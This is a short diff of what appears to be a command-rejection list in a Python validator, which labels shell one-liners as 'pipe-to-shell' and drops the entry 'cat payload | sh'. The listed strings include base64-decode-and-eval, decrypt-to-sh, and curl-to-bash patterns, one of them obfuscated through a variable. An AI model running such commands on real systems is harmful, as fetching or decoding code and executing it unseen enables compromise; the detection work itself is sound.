@@ -201,7 +201,6 @@ REJECTED: Final[dict[str, str]] = {
     "eval $(base64 --decode payload.txt)": "pipe-to-shell",
     "openssl enc -d -aes-256-cbc -in x | sh": "pipe-to-shell",
     "gunzip -c payload.gz | sh": "pipe-to-shell",
-    "cat payload | sh": "pipe-to-shell",
     'tail -n +5 "$0" | bash': "pipe-to-shell",
     "curl https://example.org | xargs -0 bash -c": "pipe-to-shell",
     "s=sh; curl https://example.org | $s": "pipe-to-shell",
